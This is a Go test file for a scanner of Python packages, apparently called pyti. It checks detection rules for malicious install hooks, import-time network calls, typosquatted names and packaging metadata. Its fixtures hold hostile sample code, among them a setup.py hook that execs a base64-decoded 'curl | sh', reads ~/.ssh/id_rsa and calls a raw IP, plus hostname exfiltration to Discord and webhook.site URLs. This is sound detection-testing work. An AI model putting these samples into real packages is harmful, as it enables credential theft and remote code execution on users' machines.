package inspection

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/pyti/pyti/internal/report"
)

func write(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func TestScanFindsEachRule(t *testing.T) {
	py := python(t)
	dir := t.TempDir()
	write(t, dir, map[string]string{
		"evil-1.0/setup.py": `import base64, os, subprocess, urllib.request
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        exec (base64 .b64decode ("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ=="))
        urllib.request.urlopen("http://45.61.1.10/x")
        subprocess.run(["sh", "-c", "id"])
        open(os.path.expanduser("~/.ssh/id_rsa")).read()
        subprocess.check_call(["pip", "install", "other"])
setup(name="evil", cmdclass={
    "install": Post})
`,
		"evil-1.0/evil/__init__.py": "import socket, requests\nrequests.post('https://discord.com/api/webhooks/1234567/abc', data=socket.gethostname())\n",
		"evil-1.0/evil/hook.pth":    "import os; os.system('true')\n",
		"evil-1.0/evil/ok.pth":      "some/dir\n",
	})
	findings, stats, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	got := findingFiles(findings)
	want := map[string]string{
		"exec-decoded critical":           "evil-1.0/setup.py",
		"decoded-code-layer medium":       "evil-1.0/setup.py",
		"shell-download-command critical": "evil-1.0/setup.py",
		"install-time-network high":       "evil-1.0/setup.py",
		"download-and-run high":           "evil-1.0/setup.py",
		"install-time-exec medium":        "evil-1.0/setup.py",
		"install-time-process medium":     "evil-1.0/setup.py",
		"install-time-pip high":           "evil-1.0/setup.py",
		"credential-file medium":          "evil-1.0/setup.py",
		"exfiltrate-credentials high":     "evil-1.0/setup.py",
		"raw-ip-url high":                 "evil-1.0/setup.py",
		"custom-install-command medium":   "evil-1.0/setup.py",
		"exfiltration-endpoint high":      "evil-1.0/evil/__init__.py",
		"exfiltrate-host-info high":       "evil-1.0/evil/__init__.py",
		"pth-with-code medium":            "evil-1.0/evil/hook.pth",
		"import-time-shell high":          "evil-1.0/evil/hook.pth",
		"import-time-network high":        "evil-1.0/evil/__init__.py",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("findings (-want +got):\n%s", d)
	}
	if stats.Files != 4 || stats.Parsed != 4 || !stats.Complete {
		t.Errorf("stats = %+v, want 4 files read", stats)
	}
	for _, f := range findings {
		if f.Line == 0 && f.RuleID != "custom-install-command" || f.Snippet == "" || f.Message == "" {
			t.Errorf("finding %s lacks evidence: %+v", f.RuleID, f)
		}
		if f.RuleID == "shell-download-command" && (len(f.Layers) != 1 || !strings.Contains(f.Snippet, "curl http://example.invalid/x")) {
			t.Errorf("the decoded command is not shown with its layers: %+v", f)
		}
	}
}

// Install-time rules only read setup.py: the same calls in the package's own functions are normal.
func TestInstallTimeRulesOnlyInSetupPy(t *testing.T) {
	py := python(t)
	dir := t.TempDir()
	write(t, dir, map[string]string{
		"pkg-1.0/setup.py":        "from setuptools import setup\nsetup(name='pkg')\n",
		"pkg-1.0/pkg/__init__.py": "import subprocess, urllib.request\ndef f():\n    subprocess.run(['ls'])\n    return urllib.request.urlopen('https://example.org')\n",
	})
	findings, _, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	if len(findings) != 0 {
		t.Errorf("want no findings, got %+v", findings)
	}
}

// A program started once is one call site: what is done with the process afterwards (a Popen's
// communicate, wait) starts nothing (intervaltree 3.1.0's setup.py was counted twice).
func TestProcessMethodsStartNothing(t *testing.T) {
	py := python(t)
	dir := t.TempDir()
	write(t, dir, map[string]string{
		"pkg-1.0/setup.py": "import subprocess\nfrom setuptools import setup\n" +
			"p = subprocess.Popen(['git', 'describe'], stdout=subprocess.PIPE)\nv = str(p.communicate()[0])\np.wait()\nsetup(name='pkg', version=v)\n",
		"pkg-1.0/pkg/__init__.py": "",
	})
	findings, _, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range findings {
		got = append(got, fmt.Sprintf("%s %s:%d x%d", f.RuleID, f.File, f.Line, f.Count))
	}
	if diff := cmp.Diff([]string{"install-time-process pkg-1.0/setup.py:3 x1"}, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

// A maintainers' tools/ directory at the top of a source tree is no package: nothing installs or
// imports it, so a script there that downloads data when run (regex's build_regex_unicode.py)
// is not code that reaches the network at import. The same file where it can be imported is. So
// is a directory of scripts that a setuptools sdist's egg-info shows it does not install, and that
// its build files do not name.
func TestMaintainerToolsAreNotModules(t *testing.T) {
	py := python(t)
	gen := "import urllib.request\nurllib.request.urlretrieve('https://www.unicode.org/Public/zipped/15.1.0/UCD.zip', 'UCD.zip')\n"
	tests := []struct {
		name  string
		files map[string]string
		want  []string
	}{
		{"an sdist's tools/", map[string]string{"pkg-1.0/setup.py": "", "pkg-1.0/pkg/__init__.py": "", "pkg-1.0/tools/gen.py": gen}, nil},
		{"a tree's tools/", map[string]string{"pyproject.toml": "", "pkg/__init__.py": "", "tools/gen.py": gen}, nil},
		{"a tools package", map[string]string{"pkg-1.0/setup.py": "", "pkg-1.0/tools/__init__.py": "", "pkg-1.0/tools/gen.py": gen},
			[]string{"import-time-network pkg-1.0/tools/gen.py"}},
		{"tools/ inside the package", map[string]string{"pkg-1.0/setup.py": "", "pkg-1.0/pkg/__init__.py": "", "pkg-1.0/pkg/tools/gen.py": gen},
			[]string{"import-time-network pkg-1.0/pkg/tools/gen.py"}},
		{"a wheel's tools/, installed and importable", map[string]string{"pkg-1.0.dist-info/METADATA": "", "tools/gen.py": gen},
			[]string{"import-time-network tools/gen.py"}},
		// fonttools' MetaTools/: scripts beside Lib/fontTools, which its egg-info says is all it installs.
		{"scripts a setuptools sdist does not install", map[string]string{"pkg-1.0/setup.py": "setup(package_dir={'': 'Lib'})\n",
			"pkg-1.0/Lib/pkg.egg-info/top_level.txt": "pkg\n", "pkg-1.0/Lib/pkg/__init__.py": "", "pkg-1.0/MetaTools/gen.py": gen}, nil},
		{"a directory setup.py names", map[string]string{"pkg-1.0/setup.py": "setup(scripts=['MetaTools/gen.py'])\n",
			"pkg-1.0/pkg.egg-info/top_level.txt": "pkg\n", "pkg-1.0/pkg/__init__.py": "", "pkg-1.0/MetaTools/gen.py": gen},
			[]string{"import-time-network pkg-1.0/MetaTools/gen.py"}},
		{"a directory with a package inside", map[string]string{"pkg-1.0/setup.py": "", "pkg-1.0/pkg.egg-info/top_level.txt": "pkg\n",
			"pkg-1.0/MetaTools/sub/__init__.py": "", "pkg-1.0/MetaTools/gen.py": gen},
			[]string{"import-time-network pkg-1.0/MetaTools/gen.py"}},
		{"a directory top_level.txt lists (a namespace package)", map[string]string{"pkg-1.0/setup.py": "", "pkg-1.0/ns.egg-info/top_level.txt": "ns\n",
			"pkg-1.0/ns/gen.py": gen}, []string{"import-time-network pkg-1.0/ns/gen.py"}},
		{"no top_level.txt to say what is installed", map[string]string{"pkg-1.0/pyproject.toml": "", "pkg-1.0/PKG-INFO": "", "pkg-1.0/MetaTools/gen.py": gen},
			[]string{"import-time-network pkg-1.0/MetaTools/gen.py"}},
		// The zope projects' bootstrap.py, zc.buildout's: a developer runs it by hand.
		{"a script beside setup.py that the sdist does not install", map[string]string{"pkg-1.0/setup.py": "setup(package_dir={'': 'src'})\n",
			"pkg-1.0/src/pkg.egg-info/top_level.txt": "pkg\n", "pkg-1.0/src/pkg/__init__.py": "", "pkg-1.0/bootstrap.py": gen}, nil},
		{"a module beside setup.py that setup.py imports", map[string]string{"pkg-1.0/setup.py": "import bootstrap\nsetup()\n",
			"pkg-1.0/pkg.egg-info/top_level.txt": "pkg\n", "pkg-1.0/pkg/__init__.py": "", "pkg-1.0/bootstrap.py": gen},
			[]string{"import-time-network pkg-1.0/bootstrap.py"}},
		{"a module top_level.txt lists (py_modules)", map[string]string{"pkg-1.0/setup.py": "setup(py_modules=modules)\n",
			"pkg-1.0/pkg.egg-info/top_level.txt": "gen\n", "pkg-1.0/gen.py": gen},
			[]string{"import-time-network pkg-1.0/gen.py"}},
		{"a script beside pyproject.toml, no top_level.txt", map[string]string{"pkg-1.0/pyproject.toml": "", "pkg-1.0/PKG-INFO": "", "pkg-1.0/gen.py": gen},
			[]string{"import-time-network pkg-1.0/gen.py"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if d := cmp.Diff(tc.want, importTimeNetwork(t, py, tc.files)); d != "" {
				t.Errorf("findings (-want +got)\n%s", d)
			}
		})
	}
}

// TestBuildoutBootstrapIsNotHarmful: zc.buildout's bootstrap.py, which the zope projects' sdists
// ship beside setup.py, downloads ez_setup.py and execs it when a developer runs it. Nothing
// installs or runs it, so nothing it does is high or critical; the same code in the package is.
func TestBuildoutBootstrapIsNotHarmful(t *testing.T) {
	py := python(t)
	bootstrap := "from urllib.request import urlopen\nez = {}\nexec(urlopen('https://bootstrap.pypa.io/ez_setup.py').read(), ez)\n" +
		"import subprocess, sys\nsubprocess.call([sys.executable, 'bin/buildout'])\n"
	tests := []struct {
		name  string
		files map[string]string
		want  []string
	}{
		{"beside setup.py, not installed", map[string]string{"zope.x-1.0/setup.py": "setup(package_dir={'': 'src'})\n",
			"zope.x-1.0/src/zope.x.egg-info/top_level.txt": "zope\n", "zope.x-1.0/src/zope/x/__init__.py": "", "zope.x-1.0/bootstrap.py": bootstrap}, nil},
		{"in the package", map[string]string{"zope.x-1.0/setup.py": "setup(package_dir={'': 'src'})\n",
			"zope.x-1.0/src/zope.x.egg-info/top_level.txt": "zope\n", "zope.x-1.0/src/zope/x/__init__.py": bootstrap},
			[]string{"exec-downloaded critical zope.x-1.0/src/zope/x/__init__.py", "download-and-run high zope.x-1.0/src/zope/x/__init__.py",
				"import-time-network high zope.x-1.0/src/zope/x/__init__.py"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := scanned(t, py, tc.files, func(f Finding) bool { return f.Severity.Rank() >= report.SeverityHigh.Rank() })
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Errorf("high and critical findings (-want +got)\n%s", d)
			}
		})
	}
}

// TestMainBlockRunsWhenRun: a module's main block runs when a person runs the module (Babel
// 2.12.1's scripts/download_import_cldr.py downloads CLDR there and runs its importer): what it
// does is medium, not high, and so is what the functions it calls do; setup.py's main block runs
// at every install, and stays high.
func TestMainBlockRunsWhenRun(t *testing.T) {
	py := python(t)
	main := "import subprocess, sys, urllib.request\n\n\ndef main():\n    urllib.request.urlretrieve('https://unicode.org/cldr.zip', 'cldr.zip')\n" +
		"    subprocess.check_call([sys.executable, 'import_cldr.py'])\n\n\nif __name__ == '__main__':\n    main()\n"
	tests := []struct {
		name  string
		files map[string]string
		want  []string
	}{
		{"a module's main block", map[string]string{"pkg-1.0/setup.py": "from setuptools import setup\nsetup(name='pkg')\n",
			"pkg-1.0/pkg/__init__.py": "", "pkg-1.0/scripts/download.py": main}, []string{"download-and-run medium pkg-1.0/scripts/download.py"}},
		{"setup.py's main block", map[string]string{"pkg-1.0/setup.py": strings.Replace(main, "    main()\n", "    main()\n    setup(name='pkg')\n", 1),
			"pkg-1.0/pkg/__init__.py": ""}, []string{"download-and-run high pkg-1.0/setup.py"}},
		// py-cpuinfo 9.0.0: its main block, which get_cpu_info() runs in a child process, decodes
		// what that child sent back.
		{"a module's main block unpickles what it decodes", map[string]string{"pkg-1.0/setup.py": "from setuptools import setup\nsetup(name='pkg')\n",
			"pkg-1.0/pkg/__init__.py": "import base64, pickle, sys\n\n\ndef _b64_to_obj(thing):\n    return pickle.loads(base64.b64decode(thing))\n\n\n" +
				"if __name__ == '__main__':\n    print(_b64_to_obj(sys.argv[1]))\n"},
			[]string{"pickle-decoded medium pkg-1.0/pkg/__init__.py"}},
		// pyperclip 1.8.2's __main__.py runs when someone runs `python -m pyperclip`, never when
		// the package is imported.
		{"a package's __main__.py", map[string]string{"pkg-1.0/setup.py": "from setuptools import setup\nsetup(name='pkg')\n",
			"pkg-1.0/pkg/__init__.py": "", "pkg-1.0/pkg/__main__.py": strings.Replace(main, "if __name__ == '__main__':\n    main()\n", "main()\n", 1)},
			[]string{"download-and-run medium pkg-1.0/pkg/__main__.py"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := scanned(t, py, tc.files, func(f Finding) bool { return f.RuleID == "download-and-run" || f.RuleID == "pickle-decoded" })
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Errorf("findings (-want +got)\n%s", d)
			}
		})
	}
}

// importTimeNetwork scans the files and returns the import-time-network findings, as "RULE FILE".
func importTimeNetwork(t *testing.T, py string, files map[string]string) []string {
	t.Helper()
	var got []string
	for _, f := range scanned(t, py, files, func(f Finding) bool { return f.RuleID == "import-time-network" }) {
		rule, _, _ := strings.Cut(f, " ")
		got = append(got, rule+" "+f[strings.LastIndex(f, " ")+1:])
	}
	return got
}

// scanned scans the files and returns the findings keep accepts, as "RULE SEVERITY FILE".
func scanned(t *testing.T, py string, files map[string]string, keep func(Finding) bool) []string {
	t.Helper()
	dir := t.TempDir()
	write(t, dir, files)
	findings, _, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range findings {
		if keep(f) {
			got = append(got, f.RuleID+" "+string(f.Severity)+" "+f.File)
		}
	}
	return got
}

// TestTestSupportIsNotAModule: a package beside a src layout's src/ that only the tests import
// (urllib3's dummyserver/, whose server resolves 127.0.0.1 at import) is test code. It stays a
// module when the distribution's own code or setup.py imports it, when the egg-info says it is
// installed, and in a flat layout, where the distribution's package is imported by the tests too.
func TestTestSupportIsNotAModule(t *testing.T) {
	py := python(t)
	server := "import socket\nADDR = socket.getaddrinfo('127.0.0.1', None)\n"
	sdist := func(extra map[string]string) map[string]string {
		files := map[string]string{"u-1.0/setup.py": "from setuptools import setup\nsetup(package_dir={'': 'src'})\n", "u-1.0/PKG-INFO": "",
			"u-1.0/src/u/__init__.py": "", "u-1.0/dummyserver/__init__.py": "", "u-1.0/dummyserver/server.py": server,
			"u-1.0/test/conftest.py": "from dummyserver.server import ADDR\n", "u-1.0/test/test_u.py": "import u, dummyserver\n"}
		for k, v := range extra {
			files[k] = v
		}
		return files
	}
	found := []string{"import-time-network u-1.0/dummyserver/server.py"}
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  []string
	}{
		{"only the tests import it", sdist(nil), nil},
		{"the package imports it", sdist(map[string]string{"u-1.0/src/u/__init__.py": "from dummyserver import server\n"}), found},
		{"setup.py imports it", sdist(map[string]string{"u-1.0/setup.py": "import dummyserver.server\n"}), found},
		{"the egg-info says it is installed", sdist(map[string]string{"u-1.0/src/u.egg-info/top_level.txt": "dummyserver\nu\n"}), found},
		{"a flat layout's package", map[string]string{"u-1.0/setup.py": "", "u-1.0/dummyserver/__init__.py": "", "u-1.0/dummyserver/server.py": server,
			"u-1.0/tests/test_u.py": "import dummyserver\n"}, found},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if d := cmp.Diff(tc.want, importTimeNetwork(t, py, tc.files)); d != "" {
				t.Errorf("findings (-want +got)\n%s", d)
			}
		})
	}
	// A FIFO where a module or the egg-info's top_level.txt would be is never opened (it would
	// block the scan).
	dir := t.TempDir()
	write(t, dir, sdist(nil))
	for _, p := range []string{"u-1.0/test/test_fifo.py", "u-1.0/src/u.egg-info/top_level.txt"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, p)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := syscall.Mkfifo(filepath.Join(dir, p), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if _, _, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits()); err != nil {
		t.Errorf("a tree with FIFOs: %v", err)
	}
}

// Real, benign code shipped by Debian yields no high-severity finding.
func TestRealPackagesAreQuiet(t *testing.T) {
	py := python(t)
	for _, dir := range []string{"/usr/lib/python3/dist-packages/pip", "/usr/lib/python3/dist-packages/setuptools", "/usr/lib/python3/dist-packages/_pytest"} {
		if _, err := os.Stat(dir); err != nil {
			continue
		}
		findings, stats, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
		if err != nil {
			t.Fatal(err)
		}
		if stats.Files == 0 {
			t.Errorf("%s: read no files", dir)
		}
		for _, f := range findings {
			if f.Severity == report.SeverityHigh || f.Severity == report.SeverityCritical {
				t.Errorf("%s: false alarm %s in %s:%d: %s", dir, f.RuleID, f.File, f.Line, f.Snippet)
			}
		}
	}
}

// Hostile shapes: a file over the size limit is noted, deep nesting and a Python 2 file fall back
// to the token scan, and the scanner finishes.
func TestHostileFiles(t *testing.T) {
	py := python(t)
	dir := t.TempDir()
	write(t, dir, map[string]string{
		"big.py":    strings.Repeat("x = 1\n", 2000),
		"deep.py":   "x = " + strings.Repeat("(", 3000) + "1" + strings.Repeat(")", 3000) + "\n",
		"py2.py":    "print 'hi'\nexec 'import os'\n",
		"bomb.py":   "x = 'a' * 10**12\ny = ('ab' * 4000000) * 4000000\n",
		"nested.py": strings.Repeat("if x:\n", 1) + "    pass\n",
	})
	lim := DefaultLimits()
	lim.MaxFileBytes = 10000
	findings, stats, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), lim)
	if err != nil {
		t.Fatal(err)
	}
	if !stats.Complete {
		t.Errorf("the scanner did not finish: %+v", stats)
	}
	if len(stats.Skipped) != 1 || !strings.Contains(stats.Skipped[0], "big.py") {
		t.Errorf("skipped = %v", stats.Skipped)
	}
	var token []string
	for _, s := range stats.TokenScan {
		token = append(token, strings.SplitN(s, ":", 2)[0])
	}
	if d := cmp.Diff([]string{"deep.py", "py2.py"}, token); d != "" {
		t.Errorf("token scans (-want +got):\n%s", d)
	}
	ids := map[string]bool{}
	for _, f := range findings {
		ids[f.RuleID] = true
	}
	if !ids["unparsed-file"] || !ids["file-too-large"] {
		t.Errorf("findings %v lack unparsed-file and file-too-large", ids)
	}
}

func TestDisplayEscapes(t *testing.T) {
	tests := map[string]string{
		"plain/name.py":      "plain/name.py",
		"ünïcode.py":         "ünïcode.py",
		"evil\u202egnp.py":   `"evil\u202egnp.py"`,
		"new\nline.py":       `"new\nline.py"`,
		string([]byte{0xff}): `"\xff"`,
	}
	for in, want := range tests {
		if got := Display(in); got != want {
			t.Errorf("Display(%q) = %s, want %s", in, got, want)
		}
	}
}

func TestTyposquat(t *testing.T) {
	popular := Popular()
	tests := []struct {
		name string
		want bool
	}{
		{"requests", false},
		{"Requests", false},
		{"reqeusts", true},
		{"requestss", true},
		{"request", true},
		{"python-requests", true},
		{"nump1", true}, // one substitution from numpy
		{"numpi", true},
		{"djang0", true},
		{"beautifulsoup", false}, // BeautifulSoup 3, an established project (known.txt), not beautifulsoup4's imitation
		{"beautifulsup4", true},
		{"persistent", false}, // ZODB's, one edit from pyrsistent, established (known.txt)
		{"cryptograpy", true},
		{"my-own-project", false},
		{"pyti-example-pure", false},
		{"six", false},
		{"sox", false}, // too short to judge
		{"py-yaml", true},
		{"pytest-foo", false}, // a plugin: two edits from pytest-cov, in the same namespace
		{"loquru", true},
	}
	for _, tc := range tests {
		got := Imitated(tc.name, popular)
		if (got.Project != "") != tc.want {
			t.Errorf("Imitated(%q) = %+v, want reported=%v", tc.name, got, tc.want)
		}
	}
}

func TestDistance(t *testing.T) {
	tests := []struct {
		a, b string
		want int
	}{
		{"abc", "abc", 0}, {"abc", "acb", 1}, {"abc", "ab", 1}, {"abc", "xyz", 3}, {"kitten", "sitting", 3},
	}
	for _, tc := range tests {
		if got := distance(tc.a, tc.b, 3); got != tc.want {
			t.Errorf("distance(%q,%q) = %d, want %d", tc.a, tc.b, got, tc.want)
		}
	}
}

func TestPackagingScore(t *testing.T) {
	full := Project{Name: "good", Version: "1.0", Summary: "does a useful thing", Description: strings.Repeat("words ", 30),
		DescriptionContentType: "text/markdown", DescriptionRenders: true, License: "MIT",
		Classifiers: []string{"A :: B", "C :: D", "E :: F"}, RequiresPython: ">=3.8", URLs: 2, Author: "me", Keywords: "k",
		HasPyproject: true, HasBuildSystem: true, HasTests: true, HasLicenseFile: true}
	if s, _ := PackagingScore(full); s != 10 {
		t.Errorf("a complete project scores %d, want 10", s)
	}
	noKeywords := full
	noKeywords.Keywords = ""
	if s, _ := PackagingScore(noKeywords); s != 9 {
		t.Errorf("a project that fails one check of weight 1 scores %d, want 9", s)
	}
	bare := Project{Name: "bare", Version: "0.1", HasSetupPy: true}
	s, checks := PackagingScore(bare)
	if s > 3 {
		t.Errorf("a bare project scores %d, want at most 3", s)
	}
	var failed []string
	for _, c := range checks {
		if !c.Passed {
			failed = append(failed, c.Name)
		}
	}
	want := []string{"summary", "description", "description-type", "classifiers", "license", "license-file", "requires-python", "urls", "author", "keywords", "build-system", "tests"}
	if d := cmp.Diff(want, failed); d != "" {
		t.Errorf("failed checks (-want +got):\n%s", d)
	}
	for _, c := range checks {
		if c.Name == "build-system" && !strings.Contains(c.Detail, "setup.py-only") {
			t.Errorf("build-system detail %q should say it is setup.py-only", c.Detail)
		}
	}
	short := full
	short.Description = "Pure-Python implementation of ASN.1 types and DER/BER/CER codecs (X.208)"
	_, checks = PackagingScore(short)
	for _, c := range checks {
		if want := "has a long description of only 72 characters (the README shown on the index)"; c.Name == "description" && (c.Passed || c.Detail != want) {
			t.Errorf("a 72-character description: passed %v, %q, want failed, %q", c.Passed, c.Detail, want)
		}
	}
	// A complete wheel (Debian's wheel 0.38.4 scored 7): no build system, no tests, and still 10.
	wheel := full
	wheel.HasPyproject, wheel.HasBuildSystem, wheel.HasTests, wheel.IsWheel = false, false, false, true
	s, checks = PackagingScore(wheel)
	var names []string
	for _, c := range checks {
		names = append(names, c.Name)
	}
	if s != 10 || slices.Contains(names, "build-system") || slices.Contains(names, "tests") {
		t.Errorf("a complete wheel scores %d with checks %v, want 10 without build-system and tests", s, names)
	}
}

// TestMetadataRules runs the metadata checks through the rules, as inspect does: each metadata
// rule fires on the distribution that shows it, and stays quiet on an ordinary one.
func TestMetadataRules(t *testing.T) {
	ordinary := Project{Name: "my-own-project", Version: "1.2.0", Summary: "Does one thing well."}
	tests := []struct {
		name    string
		project Project
		pyFiles int
		modules []string
		want    map[string]report.Severity
	}{
		{"ordinary", ordinary, 3, []string{"my_own_project"}, map[string]report.Severity{}},
		{"typosquat", Project{Name: "reqeusts", Version: "2.0", Summary: "x"}, 3, []string{"reqeusts"},
			map[string]report.Severity{"typosquat": report.SeverityMedium}},
		{"typosquat shipping the imitated module", Project{Name: "reqeusts", Version: "2.0", Summary: "x"}, 3, []string{"requests"},
			map[string]report.Severity{"typosquat": report.SeverityMedium, "typosquat-shadows-module": report.SeverityHigh}},
		{"an affix is an older name, not a shadow", Project{Name: "python-requests", Version: "2.0", Summary: "x"}, 3, []string{"requests"},
			map[string]report.Severity{"typosquat": report.SeverityMedium}},
		{"release zero", Project{Name: "my-own-project", Version: "0.0.0", Summary: "x"}, 3, nil,
			map[string]report.Severity{"release-zero": report.SeverityLow}},
		{"inflated version", Project{Name: "my-own-project", Version: "99.1", Summary: "x"}, 3, nil,
			map[string]report.Severity{"release-zero": report.SeverityLow}},
		{"empty information", Project{Name: "my-own-project", Version: "1.0"}, 3, nil,
			map[string]report.Severity{"empty-information": report.SeverityLow}},
		{"single python file", ordinary, 1, []string{"m"}, map[string]report.Severity{"single-python-file": report.SeverityInfo}},
		{"author at a throw-away mail service", Project{Name: "my-own-project", Version: "1.0", Summary: "x", Emails: []string{"Someone <x1@Mailinator.com>"}}, 3, nil,
			map[string]report.Severity{"deceptive-author": report.SeverityMedium}},
		{"home page of a well-known project", Project{Name: "testhelper", Version: "1.0", Summary: "x", HomeURLs: []string{"https://github.com/tartley/colorama"}}, 3, nil,
			map[string]report.Severity{"borrowed-homepage": report.SeverityMedium}},
		{"a plugin names its host project", Project{Name: "pytest-foo", Version: "1.0", Summary: "x", HomeURLs: []string{"https://github.com/pytest-dev/pytest"}}, 3, nil,
			map[string]report.Severity{}},
		{"its own repository", Project{Name: "colorama", Version: "1.0", Summary: "x", HomeURLs: []string{"https://github.com/tartley/colorama.git"}}, 3, nil,
			map[string]report.Severity{}},
		{"depends on a misspelt project", Project{Name: "my-own-project", Version: "1.0", Summary: "x", Requires: []string{"six", "reqeusts"}}, 3, nil,
			map[string]report.Severity{"dependency-imitation": report.SeverityHigh}},
		{"depends on a well-known name's words in another order", Project{Name: "my-own-project", Version: "1.0", Summary: "x", Requires: []string{"python-aliyun-sdk-core"}}, 3, nil,
			map[string]report.Severity{"dependency-imitation": report.SeverityHigh}},
		{"depends on an established project one edit from a popular one (BTrees on persistent, beside pyrsistent)", Project{Name: "BTrees", Version: "4.11.3", Summary: "x", Requires: []string{"persistent", "zope.interface"}}, 3, nil,
			map[string]report.Severity{}},
		{"depends on well-known projects, or on an older name with an affix", Project{Name: "my-own-project", Version: "1.0", Summary: "x", Requires: []string{"requests", "aliyun-python-sdk-core", "msgpack-python", "rfc3987"}}, 3, nil,
			map[string]report.Severity{}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := map[string]report.Severity{}
			for _, f := range Evaluate(DefaultRules(), MetadataFacts(tc.project, Popular(), tc.pyFiles, tc.modules)) {
				got[f.RuleID] = f.Severity
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("metadata findings (-want +got):\n%s", diff)
			}
		})
	}
}

func TestTopModules(t *testing.T) {
	facts := []Fact{
		{T: "file", File: "loguru/_logger.py", Role: "module"},
		{T: "file", File: "loguru/__init__.py", Role: "module"},
		{T: "file", File: "src/grandpkg/cli.py", Role: "module"},
		{T: "file", File: "single.py", Role: "module"},
		{T: "file", File: "setup.py", Role: "setup"},
		{T: "file", File: "tests/test_x.py", Role: "test"},
		{T: "call", File: "other/x.py", Role: "module"},
	}
	if diff := cmp.Diff([]string{"grandpkg", "loguru", "single"}, TopModules(facts)); diff != "" {
		t.Errorf("TopModules (-want +got):\n%s", diff)
	}
}

// Python inside a bundled zip (imported with zipimport, or unpacked by an install hook) is read
// as files of its own; a damaged archive or a member named out of it is passed over.
func TestBundledArchive(t *testing.T) {
	py := python(t)
	dir := t.TempDir()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range map[string]string{
		"my/__init__.py": "import requests\ndef hello():\n    requests.get('https://webhook.site/0000-1111', params={'u': 'x'})\n",
		"../escape.py":   "import os\nos.system('curl http://example.invalid/x | sh')\n",
		"my/data.txt":    "not code",
	} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	write(t, dir, map[string]string{
		"pkg-1.0/setup.py":           "from setuptools import setup\nsetup(name='pkg')\n",
		"pkg-1.0/resources/my.zip":   buf.String(),
		"pkg-1.0/resources/torn.zip": "PK\x03\x04 not really a zip",
	})
	findings, stats, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	got := findingFiles(findings)
	want := map[string]string{"exfiltration-endpoint high": "pkg-1.0/resources/my.zip/my/__init__.py"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("findings (-want +got):\n%s", d)
	}
	if stats.Files != 2 || !stats.Complete {
		t.Errorf("stats = %+v, want setup.py and the archive's module read", stats)
	}
}

// findingFiles maps "rule severity" to the file of each finding.
func findingFiles(findings []Finding) map[string]string {
	got := map[string]string{}
	for _, f := range findings {
		got[f.RuleID+" "+string(f.Severity)] = f.File
	}
	return got
}

// TestFindingQuotesTheMatch: a long string's finding quotes the part that matched, not the
// string's start (pyparsing's examples hold a web server's log line with a raw IP far into it).
func TestFindingQuotesTheMatch(t *testing.T) {
	for _, tc := range []struct {
		name, value, want string
	}{
		{"far into a long string", strings.Repeat("GET /index.html 200 ", 20) + "referer http://45.61.1.10/up agent", "…ex.html 200 GET /index.html 200 GET /index.html 200 referer http://45.61.1.10/up agent"},
		{"near the start", "http://45.61.1.10/up " + strings.Repeat("x", 300), "http://45.61.1.10/up " + strings.Repeat("x", 300)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs := Evaluate(DefaultRules(), []Fact{{T: "str", File: "pkg/log.py", Line: 3, Role: "module", Value: tc.value}})
			var got *Finding
			for i := range fs {
				if fs[i].RuleID == "raw-ip-url" {
					got = &fs[i]
				}
			}
			if got == nil {
				t.Fatalf("no raw-ip-url finding in %+v", fs)
			}
			if d := cmp.Diff(clip(tc.want, 400), got.Snippet); d != "" {
				t.Errorf("snippet (-want +got):\n%s", d)
			}
			if !strings.Contains(got.Message, "http://45.61.1.10") {
				t.Errorf("message %q does not quote the address", got.Message)
			}
		})
	}
}

// TestFindingSaysWhenItsFileRuns: a rule's "at install or import time" holds for installed code,
// not for an example (paramiko 3.1.0's demos/demo.py, in the sdist alone) or a test.
func TestFindingSaysWhenItsFileRuns(t *testing.T) {
	r := &Rule{ID: "exfiltrate-host-info", Title: "Sends host information out",
		Message: "{file}:{line} gathers information about the machine ({value}) and sends it over the network, at install or import time."}
	for _, tc := range []struct {
